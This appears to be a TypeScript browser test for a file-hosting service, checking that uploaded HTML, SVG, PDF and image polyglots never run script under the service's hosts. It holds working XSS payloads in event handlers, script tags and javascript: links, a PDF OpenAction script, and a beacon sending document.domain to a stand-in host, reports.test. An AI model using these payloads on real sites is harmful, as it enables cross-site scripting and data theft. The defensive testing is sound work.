/**
 * Files that are pages, or that a browser might take for one, through every public way in a real browser: whatever is in
 * them, no script runs, neither under the host of the API nor under that of the bytes. And under that host there is nothing else.
 */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { Client, SECRET } from '../support/client.ts';
import { fixture } from '../support/corpus.ts';
import { CHROMIUM_FLAGS, programPath, programSkip } from '../support/programs.ts';
import { startService, storeKinds, type TestService } from '../support/service.ts';
import { share } from '../support/shares.ts';

/** Tells that it ran in each way there is. */
const code = `document.title='ran';fetch('http://reports.test/fetched');new Image().src='http://reports.test/'+document.domain;alert('ran')`;
const html = `<!doctype html><title>quiet</title><body onload="${code}"><script>${code}</script><img src=x onerror="${code}"><svg onload="${code}"></svg>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${code}"><script>${code}</script><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${code.replaceAll("'", '&apos;')}&lt;/script&gt;"/></foreignObject><a href="javascript:${code}"><rect width="10" height="10"/></a></svg>`;
const pdfOf = (action: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(${action})>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\nxref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n0000000010 00000 n \n0000000011 00000 n \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n9\n%%EOF\n`,
  );
const withComment = (jpeg: Buffer, comment: string) =>
  Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 255]),
    Buffer.from(comment),
    jpeg.subarray(2),
  ]);

const files: { name: string; type: string; bytes: Buffer; isPage?: boolean }[] = [
  { name: 'page.html', type: 'text/html', bytes: Buffer.from(html), isPage: true },
  { name: 'drawing.svg', type: 'image/svg+xml', bytes: Buffer.from(svg), isPage: true },
  { name: 'page.txt', type: 'text/plain', bytes: Buffer.from(html) },
  { name: 'page.json', type: 'application/json', bytes: Buffer.from(JSON.stringify(html)) },
  { name: 'code.pdf', type: 'application/pdf', bytes: pdfOf('app.alert(1);') },
  { name: 'page.pdf', type: 'application/pdf', bytes: Buffer.concat([pdfOf('app.alert(1);'), Buffer.from(html)]) },
  { name: 'comment.jpg', type: 'image/jpeg', bytes: withComment(fixture('photo.jpg'), `*/${html}/*`) },
  { name: 'tail.png', type: 'image/png', bytes: Buffer.concat([fixture('drawing.png'), Buffer.from(html)]) },
  {
    name: 'script.gif',
    type: 'image/gif',
    bytes: Buffer.concat([fixture('animation.gif'), Buffer.from(`/*${html}*/`)]),
  },
];
const policies = Object.fromEntries(
  files.map(({ type }) => [
    type.replace(/[^a-z]/g, '-'),
    { mediaTypes: [type], maxBytes: 1_000_000, public: true, allowUndetected: true, metadata: 'keep' },
  ]),
);

for (const { store, skip } of storeKinds)
  describe(`public files on ${store}, in a browser`, { skip: skip || programSkip('chromium') }, () => {
    let service: TestService;
    let browser: Browser;
    let foreign: Server;
    let client: Client;
    /** What was asked of the host that scripts report to. */
    const reports: string[] = [];
    const stored = new Map<string, { id: string; path: string; links: string[] }>();

    before(async () => {
      service = await startService({
        store,
        policies,
        env: {
          AUTH_JWT_SECRET: SECRET,
          PUBLIC_URL: 'http://api.test',
          USERCONTENT_URL: 'http://usercontent.test',
          PUBLIC_GALLERIES: 'true',
        },
      });
      client = await Client.withToken(service.url);
      for (const file of files) stored.set(file.name, await publish(file));
      foreign = createServer(({ url = '', headers }, answer) => {
        if (headers.host === 'reports.test') reports.push(url);
        const file = files.find(({ name }) => url === `/${name}`);
        if (file) answer.setHeader('content-type', file.type).end(file.bytes);
        else answer.setHeader('content-type', 'text/html').end('<!doctype html><title>foreign</title><body></body>');
      });
      foreign.listen(0, '127.0.0.1');
      await once(foreign, 'listening');
      const { port } = foreign.address() as AddressInfo;
      const here = new URL(service.url).host;
      const rules = ['api.test', 'usercontent.test'].map((host) => `MAP ${host}:80 ${here}`);
      rules.push(...['reports.test', 'foreign.test'].map((host) => `MAP ${host}:80 127.0.0.1:${port}`));
      browser = await chromium.launch({
        executablePath: programPath('chromium'),
        args: [...CHROMIUM_FLAGS, `--host-resolver-rules=${rules.join(',')}`],
      });
    });
    after(async () => {
      await browser?.close();
      foreign?.closeAllConnections();
      foreign?.close();
      await service?.close();
    });

    async function publish({ name, type, bytes }: (typeof files)[number]) {
      const assetType = type.replace(/[^a-z]/g, '-');
      const uploaded = await client.raw(Buffer.from(bytes), { name, type, fields: { assetType, projectId: 'album' } });
      assert.equal(uploaded.status, 201, `${name}: ${JSON.stringify(uploaded.body)}`);
      const { id } = uploaded.body;
      const { body } = await client.send('PATCH', `/v1/assets/${id}`, { visibility: 'public' });
      assert.equal(body.publicUrl, `http://usercontent.test/p/${id}/${name}`);
      const links = [String((await client.get(`/v1/assets/${id}/download`)).body['url'])];
      if (store === 'disk') assert.match(links[0] ?? '', /^http:\/\/usercontent\.test\/v1\/links\//);
      if (/jpeg|png|gif/.test(type)) {
        const { url } = (await client.get(`/v1/assets/${id}/variants/link?width=64`)).body as { url?: unknown };
        assert.match(String(url), /^http:\/\/usercontent\.test\/v1\/variants\//);
        links.push(String(url));
      }
      return { id, path: `/p/${id}/${name}`, links };
    }

    /** Does something in a page of its own. @returns what ran there, or in a frame of it */
    async function ranIn(context: BrowserContext, open: (page: Page) => Promise<unknown>): Promise<string[]> {
      const page = await context.newPage();
      const ran: string[] = [];
      page.on('dialog', (dialog) => {
        ran.push('dialog');
        void dialog.dismiss();
      });
      page.on('request', (each) => {
        if (each.url().startsWith('http://reports.test/')) ran.push(each.url());
      });
      // What is an attachment becomes a download, and the navigation is none.
      await open(page).catch(() => {});
      for (const frame of page.frames())
        if ((await frame.evaluate(() => document.title).catch(() => '')) === 'ran') ran.push('title');
      await page.close();
      return ran;
    }

    /** Opens each of them as a page. @returns what ran, by address */
    async function opened(addresses: Iterable<string>): Promise<string[]> {
      const context = await browser.newContext({ acceptDownloads: true });
      reports.length = 0;
      const openOne = async (address: string) =>
        (await ranIn(context, (page) => page.goto(address))).map((what) => `${address}: ${what}`);
      const ran = (await Promise.all([...addresses].map(openOne))).flat();
      await context.close();
      return [...ran, ...reports];
    }

    test('the pages among them do run where nothing keeps them from it', async () => {
      for (const { name } of files.filter(({ isPage }) => isPage)) {
        const ran = await opened([`http://foreign.test/${name}`]);
        assert.ok(ran.length > 1, `${name}: ${ran}`);
      }
    });

    for (const host of ['api.test', 'usercontent.test'])
      test(`none runs a script when it is opened under ${host}`, async () => {
        const addresses = files.flatMap(({ name, type, isPage }) => {
          const { path } = stored.get(name) ?? assert.fail();
          const isPicture = /jpeg|png|gif/.test(type);
          return [path, ...(isPage ? [`${path}?a=1`, `${path}/`] : []), ...(isPicture ? [`${path}?width=32`] : [])];
        });
        assert.deepEqual(await opened(addresses.map((address) => `http://${host}${address}`)), []);
      });

    test('nor when it is followed by a signed link', async () => {
      const links = [...stored.values()].flatMap((each) => each.links);
      const onApi = links.map((link) => link.replace('usercontent.test', 'api.test'));
      assert.deepEqual(await opened(new Set([...links, ...onApi])), []);
    });

    test('nor when it is shared, or in an archive; and a page of a share has its bytes from their own host', async () => {
      const assetIds = [...stored.values()].map(({ id }) => id);
      const [open, limited] = [await share(client, { assetIds }), await share(client, { assetIds, maxDownloads: 9 })];
      const of = (token: string) => assetIds.map((id) => `/s/${token}/assets/${id}/content`);
      const paths = of(open.token).flatMap((path) => [
        path,
        `${path}?disposition=inline`,
        `${path}?disposition=attachment`,
      ]);
      const hosts = ['http://api.test', 'http://usercontent.test'];
      assert.deepEqual(await opened(hosts.flatMap((host) => paths.map((path) => host + path))), []);

      const linksOn = async (path: string) => {
        const page = await ask('GET', path, 'api.test', { accept: 'text/html' });
        assert.equal(page.status, 200);
        const bytes = [...page.body.matchAll(/(?:href|src)="([^"]*\/(?:content|image|archive)[^"]*)"/g)];
        assert.ok(bytes.length > assetIds.length);
        return new Set(bytes.map(([, address = '']) => new URL(address, 'http://api.test').origin));
      };
      assert.deepEqual(await linksOn(`/s/${open.token}`), new Set(['http://usercontent.test']));
      // Its cookies are of the host of its page.
      assert.deepEqual(await linksOn(`/s/${limited.token}`), new Set(['http://api.test']));
      assert.equal((await ask('GET', `/s/${open.token}`, 'usercontent.test')).status, 404);

      const { body } = await client.send('POST', '/v1/archives', { ids: assetIds });
      const archive = new URL(String(body['url']));
      assert.equal(archive.origin, 'http://usercontent.test');
      const answer = await ask('GET', archive.pathname, archive.host);
      assert.equal(answer.status, 200);
      assert.match(answer.disposition, /^attachment/);
    });

    test('nor when a page of another site embeds it in any way', async () => {
      const addresses = [...stored.values()].flatMap(({ path }) => [
        `http://api.test${path}`,
        `http://usercontent.test${path}`,
      ]);
      const context = await browser.newContext({ acceptDownloads: true });
      reports.length = 0;
      const ran = await ranIn(context, async (page) => {
        await page.goto('http://foreign.test/');
        await page.evaluate(async (all) => {
          const tags = ['img', 'iframe', 'object', 'embed', 'script', 'video'];
          const embed = (tag: string, address: string) =>
            new Promise((resolve) => {
              const element = document.createElement(tag);
              element.addEventListener('load', resolve);
              element.addEventListener('error', resolve);
              // Of a frame whose content is saved, and of a film that is none, there is no word.
              setTimeout(resolve, 1500);
              element.setAttribute(tag === 'object' ? 'data' : 'src', address);
              document.body.append(element);
            });
          await Promise.all(all.flatMap((address) => tags.map((tag) => embed(tag, address))));
        }, addresses);
      });
      await context.close();
      assert.deepEqual([...ran, ...reports], []);
    });

    test('pages of every origin show and read the pictures', async () => {
      const { path } = stored.get('drawing.svg') ?? assert.fail();
      const { path: photo } = stored.get('comment.jpg') ?? assert.fail();
      const page = await browser.newPage();
      await page.goto('http://foreign.test/');
      const seen = await page.evaluate(
        async ([drawing, picture]) => {
          const image = new Image();
          image.src = drawing;
          await image.decode();
          const answer = await fetch(picture, { headers: { range: 'bytes=0-3' } });
          return [image.width, answer.status, (await answer.arrayBuffer()).byteLength];
        },
        [`http://usercontent.test${path}`, `http://usercontent.test${photo}`] as const,
      );
      assert.deepEqual(seen, [10, 206, 4]);
      await page.close();
    });

    test('the page of a gallery shows them, from their own host, and runs nothing of theirs', async () => {
      const nothing = await ask('GET', '/g/album', 'api.test', { accept: 'text/html' });
      assert.deepEqual([nothing.status, /<!doctype html>/.test(nothing.body)], [404, true]);
      const script = '<script>document.title="ran"</script>';
      await client.send('PATCH', '/v1/projects/album', { gallery: true, name: `${script}Summer` });
      const context = await browser.newContext();
      const refused: string[] = [];
      const seen: unknown[] = [];
      const ran = await ranIn(context, async (page) => {
        page.on('console', (message) => {
          if (message.text().includes('Content Security Policy')) refused.push(message.text());
        });
        await page.goto('http://api.test/g/album');
        const items = page.getByRole('main').getByRole('listitem');
        const shown = await items.locator('img').evaluateAll(async (all) => {
          const images = all.filter((each) => each instanceof HTMLImageElement);
          for (const image of images) image.loading = 'eager';
          await Promise.all(images.map((image) => image.decode()));
          return images.map((image) => new URL(image.currentSrc).origin);
        });
        seen.push(await page.getByRole('heading', { level: 1 }).textContent(), await items.count(), shown);
      });
      await context.close();
      assert.deepEqual(seen, [`${script}Summer`, files.length, Array(3).fill('http://usercontent.test')]);
      assert.deepEqual([ran, refused], [[], []]);
    });

    test('documents are shown under their own host, and saved elsewhere', async () => {
      for (const [name, inline] of [
        ['drawing.svg', true],
        ['page.html', true],
        ['page.txt', true],
        ['code.pdf', false],
        ['page.json', false],
      ] as const) {
        const { path } = stored.get(name) ?? assert.fail();
        const under = async (host: string) => (await ask('GET', path, host)).disposition;
        assert.match(await under('api.test'), /^attachment/, name);
        assert.match(await under('usercontent.test'), inline ? /^inline/ : /^attachment/, name);
      }
    });

    test('there is nothing of the API under the host of the bytes', async () => {
      const nothing = await ask('GET', '/nothing', 'usercontent.test');
      const { authorization = '' } = client.headers;
      const paths = [
        '/',
        '/v1/assets',
        '/v1/quota',
        '/v1/assets/x',
        '/docs',
        '/openapi.json',
        '/metrics',
        '/livez',
        '/readyz',
        '/health',
        '/g/x',
      ];
      for (const path of paths)
        for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'])
          for (const host of ['usercontent.test', 'USERCONTENT.test', 'usercontent.test:80']) {
            const answer = await ask(method, path, host, { authorization });
            assert.equal(answer.status, 404, `${method} ${host}${path}`);
            if (method === 'GET') assert.deepEqual(answer, nothing);
          }
      assert.equal((await ask('GET', '/livez', 'api.test')).status, 200);
      const { id, path } = stored.get('comment.jpg') ?? assert.fail();
      assert.equal((await ask('GET', `/v1/assets/${id}/content`, 'usercontent.test', { authorization })).status, 200);
      assert.equal((await ask('GET', `/v1/assets/${id}/content`, 'usercontent.test')).status, 401);
      assert.equal((await ask('OPTIONS', path, 'usercontent.test')).status, 204);
      assert.equal((await ask('POST', path, 'usercontent.test')).status, 405);
    });

    async function ask(method: string, path: string, host: string, headers: Record<string, string> = {}) {
      const [answer] = await once(
        request(service.url + path, { method, headers: { ...headers, host } }).end(),
        'response',
      );
      let body = '';
      for await (const chunk of answer.setEncoding('utf8')) body += chunk;
      const disposition: string = answer.headers['content-disposition'] ?? '';
      return { status: answer.statusCode, body: body.replace(/"requestId":"[^"]*"/, ''), disposition };
    }
  });
